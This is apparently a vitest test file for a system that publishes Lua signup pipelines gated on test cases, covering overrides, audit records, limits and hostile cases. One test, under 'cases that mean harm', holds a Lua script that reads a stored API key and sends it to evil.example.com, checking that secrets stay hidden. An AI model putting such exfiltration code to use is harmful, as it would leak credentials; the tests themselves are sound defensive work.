import type { Case, CaseFile } from "sluice/cases";
import { describe, expect, test, vi } from "vitest";
import { deploy, missing, refused, sample, signup, type Deployment } from "./deployment.ts";

const one: Case = { name: "lets ada in", context: sample, expect: { outcome: { allowed: true } } };
const file: CaseFile = { trigger: "before_signup", cases: [one] };
const denies = 'return {allowed = false, error = "No.", code = "no"}';
const loops = "while true do end";
const trigger = "before_signup";

/** A deployment with script "a" and the cases of a file. */
async function filled(code: string, cases: readonly Case[] = [one], options = {}): Promise<Deployment> {
  const deployment = deploy(options);
  await deployment.control.scripts.save({ id: "a", code });
  await deployment.control.cases.save("signup", { ...file, cases });
  return deployment;
}

async function refusalOf({ control, keys }: Deployment, options: object = { override: true }) {
  const before = await keys();
  const error: unknown = await control.pipelines.publish(signup, options).catch((reason: unknown) => reason);
  expect(await keys()).toEqual(before);
  return error as { code: string; message: string; problems: { kind: string; message: string; nodes: string[] }[] };
}

describe("publishing a pipeline whose cases are kept", () => {
  test("runs them on what is to be published, and the version says how they ended", async () => {
    const { control } = await filled("return {}");
    expect(await control.pipelines.publish(signup, { sample })).toMatchObject({ cases: { passed: 1, failed: 0 } });
    expect((await control.pipelines.versions(trigger)).items[0]?.cases).toEqual({ passed: 1, failed: 0 });
  });

  test("is refused while one fails, with what differed, and nothing is written; override is for the sample alone", async () => {
    const deployment = await filled(denies, [
      one,
      { ...one, name: "denies bob", expect: { outcome: { allowed: false } } },
    ]);
    expect(await refusalOf(deployment)).toMatchObject({
      code: "dry_run_failed",
      field: "pipeline",
      message: expect.stringMatching(/^1 of the 2 cases of before_signup fail\..*allowFailingCases/),
      problems: [{ kind: "case_failed", message: "lets ada in: outcome.allowed - true + false", nodes: ["signup"] }],
    });
  });

  test("looks at the sample first", async () => {
    const deployment = await filled(denies);
    expect(await refusalOf(deployment, { sample })).toMatchObject({ code: "dry_run_failed", field: "options.sample" });
  });

  test("goes on in spite of them when told to, which the version and the audit log say", async () => {
    const { control } = await filled(denies);
    const allowed = { override: true, allowFailingCases: true };
    expect(await control.pipelines.publish(signup, allowed)).toMatchObject({ cases: { passed: 0, failed: 1 } });
    expect((await control.pipelines.versions(trigger)).items[0]).toMatchObject({ cases: { passed: 0, failed: 1 } });
    expect((await control.audit.list()).items[0]).toMatchObject({ action: "pipeline.publish", override: true });
    await expect(control.pipelines.publish(signup, { allowFailingCases: 1 as never })).rejects.toMatchObject(
      refused("options.allowFailingCases"),
    );
  });

  test.each([
    ["no cases", { trigger }],
    ["a case of another form", { trigger, cases: [{ name: "one" }] }],
    ["no file at all", 1],
  ])(
    "names the record of the store that says nothing of them, with %s, which can be deleted",
    async (_what, damaged) => {
      const deployment = await filled("return {}");
      const { control, store } = deployment;
      await store.put("sluice:cases:old", JSON.stringify({ name: "old", revision: 3, file: damaged }));
      expect(await refusalOf(deployment)).toMatchObject({
        code: "store_unavailable",
        message: "The record sluice:cases:old is damaged.",
      });
      expect(await control.cases.delete("old", { revision: 3 })).toBe(true);
      expect(await control.pipelines.publish(signup, { sample })).toMatchObject({ version: 1 });
    },
  );

  test("sets no safeguard aside where none was needed", async () => {
    const { control } = await filled("return {}");
    await control.pipelines.publish(signup, { sample, allowFailingCases: true });
    expect((await control.audit.list()).items[0]).not.toHaveProperty("override");
  });

  test("without cases says nothing of them; those of others, and those with a pipeline of their own, are not asked", async () => {
    const { control } = deploy();
    await control.scripts.save({ id: "a", code: "return {}" });
    const fails = { ...one, expect: { outcome: { allowed: false } } };
    await control.cases.save("other", { trigger: "before_signin", cases: [fails] });
    await control.cases.save("own", { ...file, pipeline: { layers: [["a"]] }, cases: [fails] });
    expect(await control.pipelines.publish(signup, { sample })).not.toHaveProperty("cases");
    expect((await control.pipelines.versions(trigger)).items[0]).not.toHaveProperty("cases");
  });

  test("asks no case when it goes back to what was published", async () => {
    const { control } = await filled("return {}");
    await control.pipelines.publish(signup, { sample });
    await control.scripts.save({ id: "a", code: denies });
    await control.pipelines.publish(signup, { override: true, allowFailingCases: true });
    await control.cases.save("signup", { ...file, cases: [{ ...one, expect: { errorCode: "runtime_error" } }] });
    expect(await control.pipelines.rollback(trigger)).toMatchObject({ version: 1 });
  });

  test("from files asks them, too", async () => {
    const { control } = deploy();
    const files = {
      "scripts/a.lua": denies,
      "pipelines/before_signup.json": JSON.stringify(signup),
      "tests/signup.cases.json": JSON.stringify(file),
    };
    const options = { publish: true, override: true };
    const gated = await control.importFiles(files, options);
    await expect(gated.apply()).rejects.toMatchObject({ code: "dry_run_failed" });
    const allowing = await control.importFiles(files, { ...options, allowFailingCases: true });
    expect(await allowing.apply()).toEqual({ applied: [], published: [trigger] });
  });

  test("holds scripts to the limits of the deployment", async () => {
    const code = "for _ = 1, 2000 do end";
    expect(await refusalOf(await filled(code, [one], { limits: { instructions: 1_000 } }))).toMatchObject({
      problems: [{ message: expect.stringContaining("limit_instructions") }],
    });
    const { control } = await filled(code);
    expect(await control.pipelines.publish(signup, { sample })).toMatchObject({ version: 1 });
  });
});

describe("running the cases of a pipeline", () => {
  test("tells of each case, of one file or of all, on a pipeline or on the draft", async () => {
    const { control, keys } = await filled(denies, [{ ...one, expect: { outcome: { code: "no" } } }]);
    await control.cases.save("more", { ...file, cases: [one] });
    const before = await keys();
    const passed = {
      file: "signup",
      name: "lets ada in",
      passed: true,
      findings: [],
      instructions: expect.any(Number),
    };
    const findings = [{ what: "outcome.allowed", expected: "true", actual: "false" }];
    const failed = { ...passed, file: "more", passed: false, findings };
    expect(await control.pipelines.runCases(signup)).toEqual({ passed: 1, failed: 1, results: [failed, passed] });
    expect(await control.pipelines.runCases(signup, { file: "signup" })).toEqual({
      passed: 1,
      failed: 0,
      results: [passed],
    });
    await expect(control.pipelines.runCases(trigger)).rejects.toMatchObject(missing("pipeline"));
    await expect(control.pipelines.runCases(signup, { file: "no" })).rejects.toMatchObject(missing("options.file"));
    await expect(control.pipelines.runCases(signup, { file: "NO" })).rejects.toMatchObject(refused("options.file"));
    expect(await keys()).toEqual(before);
    await control.pipelines.saveDraft(signup);
    expect(await control.pipelines.runCases(trigger)).toMatchObject({ passed: 1, failed: 1 });
  });
});

describe("cases that mean harm", () => {
  const many = (count: number, each: Partial<Case> = {}): Case[] =>
    Array.from({ length: count }, (_, index) => ({ ...one, name: `case ${index}`, ...each }));

  test("end when the instructions of all are spent, however often they are to be repeated, and fail", async () => {
    const deployment = await filled(loops, many(200, { repeat: 1_000 }));
    const { problems, message } = await refusalOf(deployment);
    expect(message).toContain("200 of the 200 cases");
    expect(problems).toHaveLength(20);
    expect(problems[0]?.message).toMatch(/^case 0: its repetitions were not all run: .* 20000000 instructions$/);
    expect(problems[1]?.message).toMatch(/^case 1: it was not run: .* 20000000 instructions$/);
  });

  test.each<[string, (index: number) => Partial<Case>]>([
    ["run next to nothing very often", () => ({ repeat: 1_000 })],
    ["want an engine each", (index) => ({ env: { N: `${index}` } })],
  ])("end, too, when they %s, also where no clock goes on", { timeout: 60_000 }, async (_, each) => {
    vi.spyOn(performance, "now").mockReturnValue(0);
    const cases = many(200).map((one, index) => ({ ...one, ...each(index) }));
    const { control } = await filled("return {}", cases);
    const { passed, failed, results } = await control.pipelines.runCases(signup);
    vi.restoreAllMocks();
    expect(passed).toBeGreaterThan(5);
    expect(failed).toBeGreaterThan(90);
    expect(results.at(-1)?.findings[0]?.what).toMatch(/^it was not run: .* 20000000 instructions$/);
  });

  test("are 500 at most, over all files: the others are not run, and fail", async () => {
    const { control } = await filled("return {}", many(200));
    await control.cases.save("a", { ...file, cases: many(200) });
    await control.cases.save("b", { ...file, cases: many(101) });
    const { passed, failed, results } = await control.pipelines.runCases(signup);
    expect([passed, failed]).toEqual([500, 1]);
    expect(results.at(-1)).toMatchObject({ file: "signup", name: "case 199", passed: false, instructions: 0 });
  });

  test("get no value of a stored secret and no setting of the deployment, so that none can be told", async () => {
    const value = "the value nobody may see";
    const code = `
      local key = helpers.secret("API_KEY") or "none"
      local setting = helpers.env("REGION") or "none"
      helpers.fetch("https://evil.example.com/?k=" .. key, {headers = {["x-key"] = key .. setting}})
      error(key .. setting)`;
    const mocks = [{ url: "https://evil.example.com/*" }];
    const fetches = [{ url: "https://evil.example.com/*", headers: { "x-key": "?" } }];
    const deployment = await filled(code, [{ ...one, mocks, expect: { fetches } }], { env: { REGION: "a region" } });
    await deployment.control.secrets.set("API_KEY", value);
    const run = await deployment.control.pipelines.runCases(signup);
    const told = JSON.stringify([run, await refusalOf(deployment), (await refusalOf(deployment)).message]);
    expect(told).toContain("nonenone");
    expect(told).not.toContain(value);
    expect(told).not.toContain("a region");
    await deployment.control.pipelines.publish(signup, { override: true, allowFailingCases: true });
    const { items } = await deployment.control.pipelines.versions(trigger);
    expect(JSON.stringify([items, await deployment.control.audit.list()])).not.toContain("nonenone");
  });

  test("are told of in few words, however much a script answers", async () => {
    const code = 'return {data = {a = ("x"):rep(40000), b = ("y"):rep(10000)}}';
    const deployment = await filled(code, many(30, { expect: { outcome: { data: {} }, exact: true } }));
    const refusal = await refusalOf(deployment);
    expect(JSON.stringify(refusal.problems).length).toBeLessThan(20 * 2_000);
    const { results } = await deployment.control.pipelines.runCases(signup);
    expect(JSON.stringify(results).length).toBeLessThan(30 * 2_000);
  });

  test("cannot name what objects have by themselves to be taken for it", async () => {
    const outcome = JSON.parse(
      '{"allowed": true, "data": {"__proto__": {"a": 1}, "constructor": 1, "toString": 2}}',
    ) as never;
    const deployment = await filled("return {data = {}}", [{ ...one, expect: { outcome } }]);
    const { results } = await deployment.control.pipelines.runCases(signup);
    expect(results[0]?.findings.map(({ what }) => what)).toEqual([
      "outcome.data.__proto__",
      "outcome.data.constructor",
      "outcome.data.toString",
    ]);
  });
});
